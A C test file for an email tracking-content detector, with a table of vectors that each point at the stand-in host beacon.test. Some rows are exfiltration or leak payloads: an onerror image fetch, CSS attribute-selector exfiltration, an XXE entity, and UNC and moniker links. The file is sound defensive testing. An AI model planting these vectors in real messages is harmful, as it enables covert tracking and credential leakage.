/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The finder against one small message for each row of the survey's tables A to I, written from the survey and not from the
 * code's table of vectors.
 */
#include "find.h"
#include "find_test.h"

/* how: H a piece of HTML, S a style sheet, D declarations, M a whole message.
 * url: what must be reported; "|host" when only the host is; "" when there is none. */
static const struct row { const char *vector; char how; const char *text, *url; } rows[] = {
    { "img-src", 'H', "<img src=\"http://beacon.test/ID\" width=1 height=1>", "http://beacon.test/ID" },
    { "img-srcset", 'H', "<img srcset=\",,,http://beacon.test/ID 1x\">", "http://beacon.test/ID" },
    { "img-sizes-srcset", 'H', "<img sizes=100vw srcset=\"http://beacon.test/ID-480 480w, http://beacon.test/ID-1600 1600w\">", "http://beacon.test/ID-480" },
    { "img-lowsrc", 'H', "<img lowsrc=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "img-dynsrc", 'H', "<img dynsrc=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "img-longdesc", 'H', "<img src=cid:a longdesc=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "img-lazy", 'H', "<img loading=lazy src=\"http://beacon.test/ID-end\">", "http://beacon.test/ID-end" },
    { "img-crossorigin", 'H', "<img crossorigin=use-credentials src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "img-referrerpolicy", 'H', "<img referrerpolicy=unsafe-url src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "img-attributionsrc", 'H', "<img attributionsrc=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "image-alias-src", 'H', "<image src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "image-alias-href", 'H', "<image href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "picture-source", 'H', "<picture><source srcset=\"http://beacon.test/ID\"><img src=cid:a></picture>", "http://beacon.test/ID" },
    { "picture-media", 'H', "<source media=\"(prefers-color-scheme:dark)\" srcset=\"http://beacon.test/ID-d\">", "http://beacon.test/ID-d" },
    { "input-image", 'H', "<input type=image src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "isindex-src", 'H', "<isindex type=image src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "body-background", 'H', "<body background=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "table-background", 'H', "<table background=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "cell-background", 'H', "<td background=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "any-background", 'H', "<div background=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "video-src", 'H', "<video autoplay muted src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "video-poster", 'H', "<video poster=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "video-source", 'H', "<video><source src=\"http://beacon.test/ID\"></video>", "http://beacon.test/ID" },
    { "media-track", 'H', "<video src=cid:v><track default src=\"http://beacon.test/ID\"></video>", "http://beacon.test/ID" },
    { "audio-src", 'H', "<audio autoplay src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "audio-source", 'H', "<audio><source src=\"http://beacon.test/ID\"></audio>", "http://beacon.test/ID" },
    { "bgsound-src", 'H', "<bgsound src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "embed-src", 'H', "<embed src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "embed-code", 'H', "<embed code=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "object-data", 'H', "<object data=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "object-data-ftp", 'H', "<object data=\"ftp://beacon.test/ID\">", "ftp://beacon.test/ID" },
    { "object-codebase", 'H', "<object codebase=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "object-scriptlet", 'H', "<object type=text/x-scriptlet data=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "object-param-dataurl", 'H', "<object classid=clsid:333C7BC4-460F-11D0-BC04-0080C7055A83><param name=DataURL value=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "object-param-url", 'H', "<object classid=clsid:6BF52A52-394A-11d3-B153-00C04F79FAA6><param name=URL value=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "object-movie", 'H', "<object movie=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "applet-codebase", 'H', "<applet code=T codebase=\"http://beacon.test/ID/\">", "http://beacon.test/ID/" },
    { "applet-archive", 'H', "<applet code=T archive=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "applet-object", 'H', "<applet object=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "iframe-src", 'H', "<iframe src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "iframe-srcdoc", 'H', "<iframe srcdoc=\"&lt;img src=http://beacon.test/ID&gt;\">", "http://beacon.test/ID" },
    { "iframe-data", 'H', "<iframe src=\"data:text/html,<img src=http://beacon.test/ID>\">", "http://beacon.test/ID" },
    { "iframe-javascript", 'H', "<iframe src=\"javascript:'<img src=http://beacon.test/ID>'\">", "http://beacon.test/ID" },
    { "iframe-viewsource", 'H', "<iframe src=\"view-source:http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "frame-src", 'H', "<frameset><frame src=\"http://beacon.test/ID\"></frameset>", "http://beacon.test/ID" },
    { "frame-longdesc", 'H', "<iframe longdesc=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "layer-src", 'H', "<layer src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "portal-src", 'H', "<portal src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "fencedframe", 'H', "<fencedframe src=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "script-src", 'H', "<script src=\"http://beacon.test/ID\"></script>", "http://beacon.test/ID" },
    { "script-inline", 'H', "<img src=cid:x onerror=\"new Image().src='http://beacon.test/ID'\">", "http://beacon.test/ID" },
    { "script-module", 'H', "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://beacon.test/ID\"]}]}</script>", "http://beacon.test/ID" },
    { "script-sourcemap", 'H', "<script>//# sourceMappingURL=http://beacon.test/ID</script>", "http://beacon.test/ID" },
    { "noscript-img", 'H', "<noscript><img src=\"http://beacon.test/ID\"></noscript>", "http://beacon.test/ID" },
    { "template-shadow", 'H', "<div><template shadowrootmode=open><img src=\"http://beacon.test/ID\"></template></div>", "http://beacon.test/ID" },
    { "menuitem-icon", 'H', "<menuitem icon=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "marquee-etc-bg", 'H', "<marquee style=\"background:url(http://beacon.test/ID)\">x</marquee>", "http://beacon.test/ID" },
    { "xml-island", 'H', "<xml id=x src=\"http://beacon.test/ID\"></xml>", "http://beacon.test/ID" },
    { "import-pi", 'H', "<?import namespace=n implementation=\"http://beacon.test/ID\" ?>", "http://beacon.test/ID" },
    { "base-href", 'H', "<base href=\"http://beacon.test/ID/\"><img src=a>", "http://beacon.test/ID/" },
    { "html-manifest", 'H', "<html manifest=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "head-profile", 'H', "<head profile=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "doctype-system", 'H', "<!DOCTYPE html SYSTEM \"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "xml-stylesheet", 'H', "<?xml-stylesheet type=\"text/xsl\" href=\"http://beacon.test/ID\"?>", "http://beacon.test/ID" },
    { "xml-entity", 'H', "<!DOCTYPE a [<!ENTITY % e SYSTEM \"http://beacon.test/ID\"> %e;]>", "http://beacon.test/ID" },
    { "xinclude", 'H', "<xi:include href=\"http://beacon.test/ID\"/>", "http://beacon.test/ID" },
    { "meta-refresh", 'H', "<meta http-equiv=refresh content=\"0;url=http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "meta-dns-prefetch", 'H', "<meta http-equiv=x-dns-prefetch-control content=on><a href=\"http://ID.beacon.test\">.</a>", "" },
    { "meta-csp-report", 'H', "<meta http-equiv=Content-Security-Policy content=\"img-src 'none';report-uri http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "meta-msapplication", 'H', "<meta name=msapplication-TileImage content=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "meta-reading-view", 'H', "<meta name=copyright content=\"<img src=http://beacon.test/ID>\">", "http://beacon.test/ID" },
    { "meta-og-image", 'H', "<meta property=og:image content=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-stylesheet", 'H', "<link rel=stylesheet href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-alt-stylesheet", 'H', "<link rel=\"alternate stylesheet\" href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-icon", 'H', "<link rel=icon href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-touch-icon", 'H', "<link rel=apple-touch-icon href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-manifest", 'H', "<link rel=manifest href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-dns-prefetch", 'H', "<link rel=dns-prefetch href=\"//ID.beacon.test\">", "https://id.beacon.test/" },
    { "link-preconnect", 'H', "<link rel=preconnect href=\"http://ID.beacon.test\">", "http://id.beacon.test/" },
    { "link-prefetch", 'H', "<link rel=prefetch href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-prerender", 'H', "<link rel=prerender href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-preload", 'H', "<link rel=preload as=image href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-imagesrcset", 'H', "<link rel=preload as=image imagesrcset=\",,http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-modulepreload", 'H', "<link rel=modulepreload href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-import", 'H', "<link rel=import href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-subresource", 'H', "<link rel=subresource href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-search", 'H', "<link rel=search type=\"application/opensearchdescription+xml\" href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-alternate-feed", 'H', "<link rel=alternate type=\"application/atom+xml\" href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-compression-dict", 'H', "<link rel=compression-dictionary href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "link-office-filelist", 'H', "<link rel=File-List href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "a-href-redirect", 'H', "<a href=\"http://beacon.test/ID?u=https%3A%2F%2Fnews.example%2F\">x</a>", "http://beacon.test/ID?u=https%3A%2F%2Fnews.example%2F" },
    { "a-hidden-link", 'H', "<a href=\"http://beacon.test/ID\" style=\"font-size:0\"></a>", "http://beacon.test/ID" },
    { "a-text-autolink", 'M', "Content-Type: text/plain\n\nhttp://ID.beacon.test/\n", "http://id.beacon.test/" },
    { "a-subdomain-dns", 'H', "<a href=\"http://ID.beacon.test/\">x</a>", "http://id.beacon.test/" },
    { "a-ping", 'H', "<a ping=\"http://beacon.test/ID\" href=\"https://good.example/\">", "http://beacon.test/ID" },
    { "area-ping", 'H', "<area ping=\"http://beacon.test/ID\" href=\"https://good.example/\">", "http://beacon.test/ID" },
    { "a-attributionsrc", 'H', "<a attributionsrc=\"http://beacon.test/ID\" href=x>", "http://beacon.test/ID" },
    { "area-href", 'H', "<area href=\"http://beacon.test/ID\" coords=\"0,0,9,9\">", "http://beacon.test/ID" },
    { "svg-a", 'H', "<svg><a href=\"http://beacon.test/ID\"><text y=9>x</text></a></svg>", "http://beacon.test/ID" },
    { "mathml-href", 'H', "<math><mi href=\"http://beacon.test/ID\">x</mi></math>", "http://beacon.test/ID" },
    { "form-action", 'H', "<form action=\"http://beacon.test/ID\"><input name=q></form>", "http://beacon.test/ID" },
    { "button-formaction", 'H', "<button form=f formaction=\"http://beacon.test/ID\">Go</button>", "http://beacon.test/ID" },
    { "isindex-action", 'H', "<isindex action=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "cite-carrier", 'H', "<blockquote cite=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "hover-css", 'S', "a:hover{background:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "checkbox-css", 'S', "#c:checked~i{background:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "details-popover", 'H', "<details><img loading=lazy src=\"http://beacon.test/ID\"></details>", "http://beacon.test/ID" },
    { "visited-css", 'S', "a:visited{background:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "mailto-body", 'H', "<a href=\"mailto:ID@beacon.test?bcc=x@beacon.test\">x</a>", "mailto:ID@beacon.test?bcc=x@beacon.test" },
    { "tel-sms", 'H', "<a href=\"sms:+10000000000;?body=ID\">x</a>", "sms:+10000000000;?body=ID" },
    { "webcal-feed", 'H', "<a href=\"webcal://beacon.test/ID.ics\">x</a>", "webcal://beacon.test/ID.ics" },
    { "unsubscribe-link", 'H', "<a href=\"http://beacon.test/ID/unsub\">x</a>", "http://beacon.test/ID/unsub" },
    { "svg-image", 'H', "<svg><image href=\"http://beacon.test/ID\"/></svg>", "http://beacon.test/ID" },
    { "svg-use", 'H', "<svg><use href=\"http://beacon.test/ID#a\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-feimage", 'H', "<svg><filter><feImage href=\"http://beacon.test/ID\"/></filter></svg>", "http://beacon.test/ID" },
    { "svg-fill", 'H', "<svg><rect fill=\"url(http://beacon.test/ID#a)\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-stroke", 'H', "<svg><rect stroke=\"url(http://beacon.test/ID#a)\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-mask-attr", 'H', "<svg><rect mask=\"url(http://beacon.test/ID#a)\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-clip-attr", 'H', "<svg><rect clip-path=\"url(http://beacon.test/ID#a)\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-filter-attr", 'H', "<svg><g filter=\"url(http://beacon.test/ID#a)\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-marker", 'H', "<svg><path d=\"M0 0L9 9\" marker-end=\"url(http://beacon.test/ID#a)\"/></svg>", "http://beacon.test/ID#a" },
    { "svg-cursor", 'H', "<svg><rect cursor=\"url(http://beacon.test/ID),auto\"/></svg>", "http://beacon.test/ID" },
    { "svg-animate-href", 'H', "<svg><image><set attributeName=href to=\"http://beacon.test/ID\"/></image></svg>", "http://beacon.test/ID" },
    { "svg-animate-by", 'H', "<svg><rect><animate attributeName=style by=\"filter:url(http://beacon.test/ID)\"/></rect></svg>", "http://beacon.test/ID" },
    { "svg-animate-style", 'H', "<svg><rect><animate attributeName=style values=\"filter:url(http://beacon.test/ID)\"/></rect></svg>", "http://beacon.test/ID" },
    { "svg-animate-funciri", 'H', "<svg><animate attributeName=fill values=\"url(http://beacon.test/ID)\"/></svg>", "http://beacon.test/ID" },
    { "svg-animate-src", 'H', "<svg><set attributeName=src to=\"http://beacon.test/ID\"/></svg>", "http://beacon.test/ID" },
    { "svg-funciri-escape", 'H', "<svg><rect fill=\"u\\72l(http://beacon.test/ID)\"/></svg>", "http://beacon.test/ID" },
    { "svg-style-import", 'H', "<svg><style>@import \"http://beacon.test/ID\";</style></svg>", "http://beacon.test/ID" },
    { "svg-script-href", 'H', "<svg><script href=\"http://beacon.test/ID\"/></svg>", "http://beacon.test/ID" },
    { "svg-foreignobject", 'H', "<svg><foreignObject><img src=\"http://beacon.test/ID\"/></foreignObject></svg>", "http://beacon.test/ID" },
    { "svg-font-face-uri", 'H', "<svg><font-face-uri xlink:href=\"http://beacon.test/ID\"/></svg>", "http://beacon.test/ID" },
    { "svg-color-profile", 'H', "<svg><color-profile xlink:href=\"http://beacon.test/ID\"/></svg>", "http://beacon.test/ID" },
    { "svg-gradient-ref", 'H', "<svg><pattern href=\"http://beacon.test/ID#p\"/></svg>", "http://beacon.test/ID#p" },
    { "svg-textpath-tref", 'H', "<svg><tref xlink:href=\"http://beacon.test/ID#t\"/></svg>", "http://beacon.test/ID#t" },
    { "svg-tiny-media", 'H', "<svg><animation xlink:href=\"http://beacon.test/ID\"/></svg>", "http://beacon.test/ID" },
    { "svg-xml-base", 'H', "<svg xml:base=\"http://beacon.test/ID/\"><image xlink:href=\"a\"/></svg>", "http://beacon.test/ID/" },
    { "svg-nested-data", 'H', "<img src=\"data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href=http://beacon.test/ID /></svg>\">", "http://beacon.test/ID" },
    { "mathml-mglyph", 'H', "<math><mglyph src=\"http://beacon.test/ID\"/></math>", "http://beacon.test/ID" },
    { "mathml-annotation", 'H', "<math><annotation-xml encoding=\"text/html\"><img src=\"http://beacon.test/ID\"></annotation-xml></math>", "http://beacon.test/ID" },
    { "mathml-maction", 'H', "<math><maction actiontype=\"statusline#http://beacon.test/ID\">x</maction></math>", "http://beacon.test/ID" },
    { "css-import-url", 'S', "@import url(http://beacon.test/ID);", "http://beacon.test/ID" },
    { "css-import-string", 'S', "@import \"http://beacon.test/ID\";", "http://beacon.test/ID" },
    { "css-import-cond", 'S', "@import url(http://beacon.test/ID) supports(display:grid) print;", "http://beacon.test/ID" },
    { "css-font-face", 'S', "@font-face{font-family:f;src:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-unicode-range", 'S', "@font-face{font-family:f;src:url(http://beacon.test/ID-A);unicode-range:U+41}", "http://beacon.test/ID-A" },
    { "css-background", 'H', "<p style=\"background:url(http://beacon.test/ID)\">", "http://beacon.test/ID" },
    { "css-background-image", 'D', "background-image:url(),url(),url(http://beacon.test/ID)", "http://beacon.test/ID" },
    { "css-list-style", 'H', "<li style=\"list-style-image:url(http://beacon.test/ID)\">", "http://beacon.test/ID" },
    { "css-border-image", 'D', "border-image:url(http://beacon.test/ID) 1", "http://beacon.test/ID" },
    { "css-content", 'S', "p::after{content:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-marker-content", 'S', "li::marker{content:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-cursor", 'D', "cursor:url(http://beacon.test/ID),auto", "http://beacon.test/ID" },
    { "css-mask", 'D', "mask-image:url(http://beacon.test/ID)", "http://beacon.test/ID" },
    { "css-clip-path", 'D', "clip-path:url(http://beacon.test/ID#c)", "http://beacon.test/ID#c" },
    { "css-filter", 'D', "filter:url(http://beacon.test/ID#f)", "http://beacon.test/ID#f" },
    { "css-shape-outside", 'D', "float:left;shape-outside:url(http://beacon.test/ID)", "http://beacon.test/ID" },
    { "css-offset-path", 'D', "offset-path:url(http://beacon.test/ID#p)", "http://beacon.test/ID#p" },
    { "css-svg-props", 'S', "circle{fill:url(http://beacon.test/ID#a)}", "http://beacon.test/ID#a" },
    { "css-image-set", 'D', "background:image-set(\"http://beacon.test/ID\" 1x)", "http://beacon.test/ID" },
    { "css-cross-fade", 'D', "background:cross-fade(url(http://beacon.test/ID),url(cid:a),50%)", "http://beacon.test/ID" },
    { "css-image-fn", 'D', "background-image:image(\"http://beacon.test/ID\")", "http://beacon.test/ID" },
    { "css-src-fn", 'D', "background:src(\"http://beacon.test/ID\")", "http://beacon.test/ID" },
    { "css-var", 'D', "--x:url(http://beacon.test/ID);background:var(--x)", "http://beacon.test/ID" },
    { "css-var-fallback", 'D', "background:var(--a,var(--b,url(http://beacon.test/ID)))", "http://beacon.test/ID" },
    { "css-attr", 'D', "content:attr(none, url(http://beacon.test/ID))", "http://beacon.test/ID" },
    { "css-property-initial", 'S', "@property --i{syntax:\"<image>\";inherits:true;initial-value:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-counter-style", 'S', "@counter-style s{system:cyclic;symbols:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-keyframes", 'S', "@keyframes k{50%{background:url(http://beacon.test/ID-30s)}}", "http://beacon.test/ID-30s" },
    { "css-transition", 'S', "p:hover{background:url(http://beacon.test/ID);transition:0s 9s}", "http://beacon.test/ID" },
    { "css-scroll-timeline", 'S', "p{animation-timeline:view();background:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-media-gate", 'S', "@media (prefers-color-scheme:dark){p{background:url(http://beacon.test/ID-dark)}}", "http://beacon.test/ID-dark" },
    { "css-media-print", 'S', "@media print{p{background:url(http://beacon.test/ID-print)}}", "http://beacon.test/ID-print" },
    { "css-supports-gate", 'S', "@supports(-moz-appearance:none){p{background:url(http://beacon.test/ID-gecko)}}", "http://beacon.test/ID-gecko" },
    { "css-container-gate", 'S', "@container (min-width:300px){p{background:url(http://beacon.test/ID)}}", "http://beacon.test/ID" },
    { "css-moz-document", 'S', "@-moz-document url-prefix(){p{background:url(http://beacon.test/ID-tb)}}", "http://beacon.test/ID-tb" },
    { "css-client-hack", 'S', "u+.body p{background:url(http://beacon.test/ID-gmail)}", "http://beacon.test/ID-gmail" },
    { "css-forward-detect", 'S', ".gmail_quote p{background:url(http://beacon.test/ID-fwd)}", "http://beacon.test/ID-fwd" },
    { "css-pseudo-misc", 'S', "p::selection{background-image:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-attr-exfil", 'S', "input[value^=a]{background:url(http://beacon.test/ID-a)}", "http://beacon.test/ID-a" },
    { "css-moz-binding", 'D', "-moz-binding:url(http://beacon.test/ID#x)", "http://beacon.test/ID#x" },
    { "css-behavior", 'D', "behavior:url(http://beacon.test/ID)", "http://beacon.test/ID" },
    { "css-ms-filter", 'D', "filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://beacon.test/ID')", "http://beacon.test/ID" },
    { "css-expression", 'D', "width:expression(new Image().src='http://beacon.test/ID')", "http://beacon.test/ID" },
    { "css-color-profile-rule", 'S', "@color-profile --p{src:url(http://beacon.test/ID)}", "http://beacon.test/ID" },
    { "css-sourcemap", 'S', "/*# sourceMappingURL=http://beacon.test/ID */", "http://beacon.test/ID" },
    { "mso-cond-img", 'H', "<!--[if mso]><img src=\"http://beacon.test/ID\"><![endif]-->", "http://beacon.test/ID" },
    { "mso-cond-version", 'H', "<!--[if gte mso 16]><img src=\"http://beacon.test/ID-16\"><![endif]-->", "http://beacon.test/ID-16" },
    { "mso-cond-not", 'H', "<![if !mso]><img src=\"http://beacon.test/ID\"><![endif]>", "http://beacon.test/ID" },
    { "ie-cond", 'H', "<!--[if true]><link rel=stylesheet href=\"http://beacon.test/ID\"><![endif]-->", "http://beacon.test/ID" },
    { "vml-imagedata-src", 'H', "<v:shape><v:imagedata src=\"http://beacon.test/ID\"/></v:shape>", "http://beacon.test/ID" },
    { "vml-imagedata-href", 'H', "<v:imagedata o:href=\"http://beacon.test/ID\"/>", "http://beacon.test/ID" },
    { "vml-fill-src", 'H', "<v:rect><v:fill type=\"frame\" src=\"http://beacon.test/ID\"/></v:rect>", "http://beacon.test/ID" },
    { "vml-stroke-src", 'H', "<v:line><v:stroke src=\"http://beacon.test/ID\"/></v:line>", "http://beacon.test/ID" },
    { "vml-background", 'H', "<v:background><v:fill src=\"http://beacon.test/ID\"/></v:background>", "http://beacon.test/ID" },
    { "vml-image", 'H', "<v:image src=\"http://beacon.test/ID\"/>", "http://beacon.test/ID" },
    { "vml-frame", 'H', "<vmlframe xmlns=\"urn:schemas-microsoft-com:vml\" src=\"http://beacon.test/ID#x\"/>", "http://beacon.test/ID#x" },
    { "vml-href", 'H', "<v:roundrect href=\"http://beacon.test/ID\">", "http://beacon.test/ID" },
    { "mso-page-header", 'S', "@page S{mso-header:url(\"http://beacon.test/ID\") h1}", "http://beacon.test/ID" },
    { "mso-list-image", 'S', "@list l0:level1{list-style-image:url(\"http://beacon.test/ID\")}", "http://beacon.test/ID" },
    { "mso-ole-link", 'H', "<o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" ObjectID=\"http://beacon.test/ID\"/>", "http://beacon.test/ID" },
    { "mso-attached-template", 'H', "<xml><w:WordDocument><w:AttachedTemplate HRef=\"http://beacon.test/ID\"/></w:WordDocument></xml>", "http://beacon.test/ID" },
    { "unc-img", 'H', "<img src=\"\\\\beacon.test\\s\\ID.png\">", "\\\\beacon.test\\s\\ID.png|beacon.test" },
    { "unc-fwdslash", 'H', "<img src=\"//beacon.test/s/ID.png\">", "|beacon.test" },
    { "file-host", 'H', "<img src=\"file://beacon.test/s/ID.png\">", "file://beacon.test/s/ID.png" },
    { "file-slashes", 'H', "<a href=\"file:////beacon.test/s/ID\">x</a>", "|beacon.test" },
    { "webdav-unc", 'H', "<a href=\"\\\\beacon.test@80\\ID\\f\">x</a>", "|beacon.test" },
    { "longpath-unc", 'H', "<img src=\"\\\\?\\UNC\\beacon.test\\s\\ID\">", "|beacon.test" },
    { "moniker-link", 'H', "<a href=\"file:///\\\\beacon.test\\s\\ID.rtf!a\">x</a>", "|beacon.test" },
    { "mailbox-link", 'H', "<img src=\"mailbox:///\\\\beacon.test\\s\\ID?number=1\">", "|beacon.test" },
    { "x-moz-ext-attachment", 'M', "Content-Type: application/octet-stream\nX-Mozilla-External-Attachment-URL: http://beacon.test/ID\n\n", "http://beacon.test/ID" },
    { "search-ms", 'H', "<a href=\"search-ms:query=a&crumb=location:\\\\beacon.test\\s\">x</a>", "|beacon.test" },
    { "office-uri", 'H', "<a href=\"ms-word:ofe|u|http://beacon.test/ID.docx\">x</a>", "|beacon.test" },
    { "ms-msdt-etc", 'H', "<a href=\"ms-appinstaller:?source=http://beacon.test/ID\">x</a>", "|beacon.test" },
    { "ldap-uri", 'H', "<a href=\"ldap://beacon.test/ID\">x</a>", "ldap://beacon.test/ID" },
    { "ftp-uri", 'H', "<img src=\"ftp://beacon.test/ID\">", "ftp://beacon.test/ID" },
    { "smb-afp-nfs", 'H', "<a href=\"smb://beacon.test/ID\">x</a>", "smb://beacon.test/ID" },
    { "rtsp-mms", 'H', "<embed src=\"mms://beacon.test/ID\">", "mms://beacon.test/ID" },
    { "news-imap-uri", 'H', "<a href=\"nntp://beacon.test/ID\">x</a>", "nntp://beacon.test/ID" },
    { "ws-uri", 'H', "<script>new WebSocket(\"ws://beacon.test/ID\")</script>", "ws://beacon.test/ID" },
    { "data-nested", 'H', "<object data=\"data:text/html,<img src=http://beacon.test/ID>\">", "http://beacon.test/ID" },
    { "mhtml-jar-res", 'H', "<img src=\"mhtml:http://beacon.test/ID!x\">", "|beacon.test" },
    { "android-intent", 'H', "<a href=\"intent://beacon.test/ID#Intent;scheme=http;end\">x</a>", "intent://beacon.test/ID#Intent;scheme=http;end" },
    { "apple-schemes", 'H', "<a href=\"itms-services://?action=download-manifest&url=http://beacon.test/ID\">x</a>", "|beacon.test" },
    { "cid-fallthrough", 'M', "Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"cid:a\">\n--b\nContent-Type: image/png\nContent-ID: <a>\nContent-Location: http://beacon.test/ID\n\n\n--b--\n", "http://beacon.test/ID" },
    { "userinfo-url", 'H', "<img src=\"http://ID:x@beacon.test/\">", "http://ID:x@beacon.test/" },
    { "ip-literal", 'H', "<img src=\"http://[::ffff:203.0.113.9]/ID\">", "http://[::ffff:cb00:7109]/ID" },
    { "idn-host", 'H', "<img src=\"http://beacon\343\200\202test/ID\">", "http://beacon.test/ID" },
    { "hdr-dnt", 'M', "Disposition-Notification-To: ID@beacon.test\n\n", "mailto:ID@beacon.test" },
    { "hdr-dnt-options", 'M', "Disposition-Notification-Options: x=required,ID\n\n", "" },
    { "hdr-rrt", 'M', "Return-Receipt-To: ID@beacon.test\n\n", "mailto:ID@beacon.test" },
    { "hdr-xcrt", 'M', "X-Confirm-Reading-To: ID@beacon.test\n\n", "mailto:ID@beacon.test" },
    { "hdr-registered", 'M', "Delivery-Receipt-To: ID@beacon.test\n\n", "mailto:ID@beacon.test" },
    { "hdr-x-image-url", 'M', "X-Image-URL: http://beacon.test/ID\n\n", "http://beacon.test/ID" },
    { "hdr-bimi", 'M', "From: a@ID.beacon.test\n\n", "mailto:a@ID.beacon.test|id.beacon.test" },
    { "hdr-favicon", 'M', "From: \"x@y.test\" <x@ID.beacon.test>\n\n", "|id.beacon.test" },
    { "hdr-gravatar", 'M', "From: ID@beacon.test\n\n", "mailto:ID@beacon.test" },
    { "hdr-list-unsubscribe", 'M', "List-Unsubscribe: <mailto:u@beacon.test>, <http://beacon.test/ID>\n\n", "http://beacon.test/ID" },
    { "hdr-list-other", 'M', "Archived-At: <http://beacon.test/ID>\n\n", "http://beacon.test/ID" },
    { "hdr-content-location", 'M', "Content-Base: http://beacon.test/ID/\nContent-Type: text/html\n\n<img src=a>", "http://beacon.test/ID/" },
    { "hdr-link", 'M', "Link: <http://beacon.test/ID>; rel=preload; as=image\n\n", "http://beacon.test/ID" },
    { "hdr-refresh", 'M', "Refresh: 0; url=http://beacon.test/ID\n\n", "http://beacon.test/ID" },
    { "hdr-openpgp-url", 'M', "OpenPGP: id=AA; url=http://beacon.test/ID\n\n", "http://beacon.test/ID" },
    { "hdr-x-sharing-config", 'M', "x-sharing-config-url: \\\\beacon.test\\s\\ID.ics\n\n", "|beacon.test" },
    { "hdr-dkim-dns", 'M', "DKIM-Signature: v=1; d=beacon.test; s=ID; b=x\n\n", "|ID._domainkey.beacon.test" },
    { "hdr-from-domain-dns", 'M', "Reply-To: ID@ID.beacon.test\n\n", "|id.beacon.test" },
    { "hdr-verp", 'M', "Return-Path: <bounce+ID@beacon.test>\n\n", "mailto:bounce+ID@beacon.test" },
    { "hdr-autoreply", 'M', "From: ID@beacon.test\n\n", "mailto:ID@beacon.test" },
    { "hdr-reply-echo", 'M', "Message-ID: <ID@beacon.test>\n\n", "mailto:ID@beacon.test" },
